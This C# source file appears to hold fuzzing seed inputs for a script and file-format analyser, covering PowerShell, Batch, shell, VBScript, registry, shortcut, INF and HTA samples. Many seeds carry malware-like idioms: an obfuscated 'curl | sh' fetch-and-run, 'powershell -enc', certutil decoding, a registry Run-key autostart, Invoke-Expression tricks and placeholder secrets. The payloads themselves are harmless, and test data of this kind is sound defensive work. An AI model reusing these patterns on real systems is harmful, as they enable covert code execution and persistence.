using System.Text;
using Assay.TestInputs;

namespace Assay.Fuzz.Seeds;

/// <summary>Small scripts and sources that use much of their language.</summary>
internal static class ScriptSeeds
{
    public static IEnumerable<byte[]> PowerShell() => Texts(
        """
        #requires -Version 5.1 -Modules @{ ModuleName = 'A'; ModuleVersion = '1.0' }
        using namespace System.Text
        [CmdletBinding()] param([Parameter(Mandatory)][ValidateSet('a','b')][string]$Name = "x$(1+1)", [switch]$On)
        function Get-Sample { begin { $a = 1 } process { $_ | Where-Object { $_.Length -gt 2 } | ForEach-Object { "$($_.Name) ${env:PATH}" } } end { return @{ A = 1; 'b c' = @(1, 2, 3) } } }
        $code = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('RwBlAHQALQBEAGEAdABlAA=='))
        $parts = 'G', 'et-D', 'ate' -join ''; & $parts; . "$PSScriptRoot\b.ps1"; Invoke-Expression ('{1}{0}' -f 'ate', 'Get-D')
        switch -Regex ($Name) { '^a' { break } default { continue } }
        try { [int]'x' } catch [System.Exception] { throw } finally { $null }
        for ($i = 0; $i -lt 3; $i++) { $b += [char](65 + $i) -bxor 1 } ; while ($true) { break } ; do { } until ($true)
        """,
        """
        class Point : System.IComparable { [int]$X = 1; static [string] $Name; Point([int]$x) : base() { $this.X = $x } [int] CompareTo([object]$other) { return 0 } hidden [void] Run() { } }
        enum Color { Red = 1; Blue }
        $text = @"
        a $($x.y[0].z) `n `u{1F600}
        "@
        $raw = @'
        ' " $x
        '@
        [Runtime.InteropServices.Marshal]::Copy($bytes, 0, $address, 4); Add-Type -TypeDefinition 'public class A { }'
        $s = -join ((72, 105) | % { [char]$_ }); $s.Replace('H', 'J').ToUpper().Substring(1).PadLeft(5) ; "abc"[-1..0] ; 'a,b' -split ',' ; 1kb + 0x1F + 1e3d ; cmd --% /c echo %PATH%
        workflow W { parallel { 1 } } ; data D { 'a' } ; trap { continue } ; $x = if ($a) { 1 } else { 2 } ; $a?.b ?? $c ; Get-Date > $null 2>&1 ; $script:v = ,1 ; @('a'; 'b')[0]
        """);

    public static IEnumerable<byte[]> PowerShellData() => Texts("""
        @{
          RootModule = 'Sample.psm1'; ModuleVersion = '1.2.0'; GUID = '00000000-0000-0000-0000-000000000001'
          RequiredModules = @('A', @{ ModuleName = 'B'; RequiredVersion = '1.0' }); NestedModules = 'x.dll'; ScriptsToProcess = @("$PSScriptRoot/a.ps1"); FunctionsToExport = '*'
          PrivateData = @{ PSData = @{ Tags = 'a', 'b'; LicenseUri = 'https://example.invalid/' } }
        }
        """);

    public static IEnumerable<byte[]> CSharp() => Texts(
        """""
        #nullable enable
        using System; using System.Diagnostics; using Alias = System.IO.File; global using static System.Math;
        namespace A.B;
        [Obsolete("x")] public partial record class Sample<T>(int X, string Y = "y") : IDisposable where T : notnull, new()
        {
            private const string Raw = $$"""
            {{1 + 1}} text
            """;
            public string Name { get; init; } = $"a{1:X2}b" + @"c\d" + "\u0061\x41";
            public async System.Threading.Tasks.Task<int> Run(params string[] values)
            {
                foreach (var value in values) { Process.Start("cmd", "/c " + value); }
                var result = values switch { [] => 0, [var first, ..] when first is { Length: > 2 } => 1, _ => await System.Threading.Tasks.Task.FromResult(2) };
                try { Alias.WriteAllBytes("a", Convert.FromBase64String("AAAA")); } catch (Exception) when (result > 1) { throw; } finally { Dispose(); }
                #if DEBUG
                unsafe { int* p = stackalloc int[3]; *p = sizeof(int); goto end; }
                #endif
                end: Func<int, int> f = static x => x + 1; return f(result) + (int)Pow(2, 3) << 1 >>> 2;
            }
            public void Dispose() { } ~Sample() { } public static implicit operator int(Sample<T> s) => s.X; public int this[int i] => i;
        }
        """"");

    public static IEnumerable<byte[]> JavaScript() => Texts("""
        'use strict'; const { exec } = require('child_process'); import fs, { readFile as read } from 'fs';
        const a = `x${1 + `y${'z'}`}`, b = /ab+c\/[/]/gi, c = { 'k': [1, , 0x1F, 1e3], get v() { return this?.k ?? null; }, async *g() { yield* [1]; } };
        exec('cmd /c ' + String.fromCharCode(104, 105)); eval(atob('YWxlcnQoMSk=')); (function () { return this })()['constructor']('return 1')();
        for (let i = 0, n = a.length; i < n; i++) { if (i in c) continue; else break; } try { throw new Error("\x41\u{61}\101") } catch { } finally { }
        class A extends B { static #x = 1; constructor() { super(); } } label: while (true) { break label } export default (x, ...y) => ({ ...x, y }); // end
        """);

    public static IEnumerable<byte[]> Batch() => Texts("""
        @echo off & setlocal enabledelayedexpansion
        set "a=po" & set b=wershell
        %a%%b% -enc RwBlAHQALQBEAGEAdABlAA== & call :sub "%~dp0x" %1 %*
        for /f "tokens=1,2 delims=," %%i in ('dir /b ^| find "x"') do ( echo %%~nxi >> out.txt & set /a n+=1 ) || goto :eof
        if exist "%TEMP%\a" ( start /b cmd /c "!a:~0,1!%b:w=v%" ) else if not defined x rem text
        :sub
        certutil -decode a b && reg add HKCU\Software /v x /d y /f
        """);

    public static IEnumerable<byte[]> Shell() => Texts("""
        #!/bin/sh
        a='cu'; b="rl"; $a$b -fsSL "https://example.invalid/${x:-y}" | sh -s -- "$@" 2>&1 >/dev/null &
        for f in *.txt $(ls `pwd`); do case "$f" in a*|b) echo "${f%.txt}${f#a}" ;; *) break ;; esac; done
        if [ -f /etc/passwd ] && test $((1 + 2)) -gt 1; then cat <<'EOF' | base64 -d > /tmp/x
        aGVsbG8=
        EOF
        elif ! true; then :; else eval "$(printf '\150\151')"; fi; f() { local x=1; return 0; }; while read -r l; do f "$l"; done < file
        """);

    public static IEnumerable<byte[]> VBScript() => Texts("""
        Option Explicit : Dim a, b() : Const C = "x""y"
        Set sh = CreateObject("WScript." & Chr(83) & "hell") : sh.Run "cmd /c " & StrReverse("txt.a epyt"), 0, False
        Function F(ByVal x) : If x > &H10 Then F = x Mod 2 Else F = Replace("abc", "b", "d") End If : End Function
        For i = 0 To UBound(Split("a,b", ",")) Step 1 : s = s & Mid("hello", i + 1, 1) : Next : Execute s ' comment
        Do While Not False : Exit Do : Loop : Select Case a : Case 1, 2 : x = #1/2/2020# : Case Else : End Select : With sh : .Exec _
        "calc" : End With : On Error Resume Next
        """);

    public static IEnumerable<byte[]> Registry() => Texts("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"a\"=\"cmd /c \\\"x\\\"\"\r\n@=dword:0000001f\r\n\"b\"=hex(2):63,00,6d,\\\r\n  00,64,00\r\n\"c\"=-\r\n[-HKEY_LOCAL_MACHINE\\A]\r\n", "REGEDIT4\n[HKEY_CLASSES_ROOT\\a]\n\"x\"=hex:01,02\n");

    /// <summary>[MS-SHLLINK]: a header, a list of ids, link information, texts, an environment block.</summary>
    public static IEnumerable<byte[]> Shortcuts()
    {
        var link = new Bytes();
        link.U32(0x4C).U32(0x0002_1401).U32(0).U32(0xC0).U32(0x4600_0000).U32(0x2FF).U32(0x20).PadTo(0x3C).U32(7).PadTo(0x4C);
        link.U16(6).U16(4).U16(0x1F).U16(0);
        link.U32(0x2E).U32(0x1C).U32(1).U32(0x1C).U32(0x24).U32(0).U32(0x2D).PadTo(link.Position + 8).Text("C:\\a.exe").PadTo(0x4C + 8 + 0x2E);
        foreach (var text in (string[])["name", "..\\a.exe", "C:\\", "/c calc", "a.ico"])
        {
            link.U16(text.Length).Add(Encoding.Unicode.GetBytes(text));
        }

        link.U32(0x314).U32(0xA000_0001).Text("%windir%\\a.exe", 260).PadTo(link.Position + 520).U32(0);
        return [link.ToArray()];
    }

    public static IEnumerable<byte[]> Setup() => Texts("[Version]\nSignature=\"$CHICAGO$\"\n[DefaultInstall]\nAddReg=Reg\nRunPreSetupCommands=Run:1\nCopyFiles=@a.dll\n[Reg]\nHKLM,\"Software\\%Name%\",a,0x00010001,1\n[Run]\n%11%\\cmd.exe /c x\n[Strings]\nName=\"A%%B\"\n");

    public static IEnumerable<byte[]> Applications() => Texts("<html><head><hta:application id=\"a\" /><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc\"</script></head><body onload=\"f()\"><script>new ActiveXObject('a').Run(1)</script></body></html>", "<?xml version=\"1.0\"?><scriptlet><registration progid=\"a\"><script language=\"JScript\"><![CDATA[var a = 1;]]></script></registration></scriptlet>");

    public static IEnumerable<byte[]> InternetShortcuts() => Texts("[InternetShortcut]\nURL=file://host.example/a.exe\nIconFile=\\\\host.example\\i.ico\nIconIndex=0\n", "[Desktop Entry]\nType=Application\nExec=sh -c \"x\" %u\n", "[Shell]\nCommand=2\nIconFile=a.ico\n");

    public static IEnumerable<byte[]> Texts() => Texts(
        "See https://example.invalid/a?b=c#d, http://user:pass@xn--e1afmkfd.example:8080/%2e%2e/ and [x](ftp://[::1]/) or \\\\host.example\\share, mail a@example.com.\n",
        "password = \"hunter2hunter2\"\nServer=a;User Id=b;Password=c3cr3tV4lue;\nAccountKey=AAAABBBBCCCCDDDDEEEEFFFFGGGGHHHHIIIIJJJJKKKKLLLLMMMMNNNNOOOOPPPPQQQQRRRRSSSSTTTTUUUUVV==;EndpointSuffix=example.invalid\n-----BEGIN RSA PRIVATE KEY-----\nMIIBAAIBADANBgkqhkiG9w0BAQEFAASCAT8wggE7AgEAAkEA\n-----END RSA PRIVATE KEY-----\neyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl\n",
        "a\u202Eb\u200Bc \uFEFF d");

    private static IEnumerable<byte[]> Texts(params string[] texts) => texts.Select(Encoding.UTF8.GetBytes);
}
